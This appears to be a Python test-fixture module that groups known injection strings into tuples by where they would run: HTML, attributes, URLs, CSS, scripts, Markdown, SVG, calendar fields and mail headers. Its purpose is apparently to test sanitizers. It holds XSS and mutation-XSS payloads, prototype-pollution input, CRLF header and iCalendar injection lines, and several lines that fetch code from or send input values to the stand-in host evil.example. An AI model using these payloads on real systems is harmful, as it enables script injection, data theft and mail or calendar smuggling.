"""Code as it is known to be tried in texts, by the place where it would run.

Known ways in, of the kinds that public lists gather (OWASP's filter evasion sheet, the
suites of DOMPurify, PayloadsAllTheThings, the list of naughty strings), written anew:
each calls `ran`, or asks for `evil.example`.
"""

HTML = (
    "<script>ran()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran();//<</script>",
    "<script/x>ran()</script >",
    "<img src=x onerror=ran()>",
    "<img src=x:x onerror=ran() //",
    "<img/src/onerror=ran()>",
    "<img src=x onerror=&#114;&#97;&#110;()>",
    "<img src=`x` onerror=ran()>",
    '<img """><script>ran()</script>">',
    "<body onload=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<details open ontoggle=ran()>x</details>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<iframe src=javascript:ran()></iframe>",
    "<frameset onload=ran()></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<template><script>ran()</script></template>",
    "<xmp><img src=x onerror=ran()></xmp>",
    "<!--<img src='--><img src=x onerror=ran()>'>",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml-stylesheet href=javascript:ran()?>",
    # Trees that a second reading puts together otherwise.
    '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
    '<style><p title="</style><img src=x onerror=ran()>">',
    "<table><td><form><table><form><img src=x onerror=ran()></table>",
    "<select><iframe></select><img src=x onerror=ran()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></math>",
    "<form id=f><input name=attributes><input name=innerHTML></form>",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
)
ATTRIBUTE = (
    '" onmouseover=ran() x="',
    "' onmouseover=ran() x='",
    "` onmouseover=ran() x=`",
    '" autofocus tabindex=1 onfocus=ran() x="',
    '"><svg onload=ran()>',
    "'><img src=x onerror=ran()>",
    '" style="animation-name:x" onanimationstart="ran()',
    '" accesskey="x" onclick="ran()" x="',
    "&quot; onmouseover=ran() &quot;",
    "&#34;&#62;<img src=x onerror=ran()>",
    '" formaction="javascript:ran()" x="',
    '" srcdoc="<script>ran()</script>" x="',
)
ADDRESS = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "&#106;&#97;&#118;&#97;script:ran()",
    "javascript&colon;ran()",
    "javascript://example.org/%0Aran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "vbscript:ran()",
    "//evil.example/\\@example.org",
    "https://example.org@evil.example/",
    "<a href=' javascript:ran()'>x</a>",
    "<a href=&#x6A;avascript:ran()>x</a>",
)
CSS = (
    "</style><script>ran()</script>",
    "<div style='width:expression(ran())'>x</div>",
    "<div style=\"background:url('javascript:ran()')\">x</div>",
    "<div style=behavior:url(//evil.example/b)>x</div>",
    "}*{background:url(//evil.example/x)}",
    "<style>@import url(//evil.example/i);</style>",
    "<link rel=stylesheet href=//evil.example/s>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
)
SCRIPT = (
    "';ran();//",
    '";ran();//',
    "\\';ran();//",
    "</script><script>ran()</script>",
    "${ran()}",
    "`-ran()-`",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "x\u2028ran()//",
    "*/ran()/*",
    "constructor.constructor('ran()')()",
    "{{constructor.constructor('ran()')()}}",
    '{"__proto__":{"x":"ran()"}}',
)
MARKDOWN = (
    "[x](JaVaScRiPt:ran())",
    "[x](<javascript:ran()>)",
    "[x](javascript&colon;ran())",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[x](vbscript:ran())",
    '![x](x"onerror="ran())',
    "![x](javascript:ran())",
    '[x](# "><img src=x onerror=ran()>")',
    "<javascript:ran()>",
    "`<img src=x onerror=ran()>`",
    "[<img src=x onerror=ran()>](//evil.example/m)",
    "**<b onclick=ran()>x</b>**",
)
SVG = (
    "<svg><script>ran()</script></svg>",
    "<svg><script href=data:,ran() /></svg>",
    "<svg><a xlink:href=javascript:ran()><text x=9 y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=ran() /></svg>",
    "<svg><animate attributeName=href values=javascript:ran() /></svg>",
    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    "<svg><desc><![CDATA[</desc><script>ran()</script>]]></svg>",
    "<svg><image href=x onerror=ran() /></svg>",
)
#: Ends of lines: what follows would be a line of its own.
CALENDAR = (
    "x\r\nATTACH:http://evil.example/a",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y",
    "x\\nATTACH:http://evil.example/n",
    "x;ALTREP=http://evil.example/p:y",
)
HEADER = (
    "x\r\nBcc: someone@evil.example",
    "x\r\n\r\n<script>ran()</script>",
    "x\nX-Evil: yes",
    "x\u0085X-Evil: yes",
    "=?utf-8?q?x=0D=0AX-Evil:_yes?=",
    "\r\n.\r\nMAIL FROM:<someone@evil.example>",
)
#: What would begin a line of its own is refused or written as one; texts that people
#: type have no such thing, but for the ends of lines of a longer text.
LINES = (*CALENDAR, *HEADER)
VECTORS = (*HTML, *ATTRIBUTE, *ADDRESS, *CSS, *SCRIPT, *MARKDOWN, *SVG)
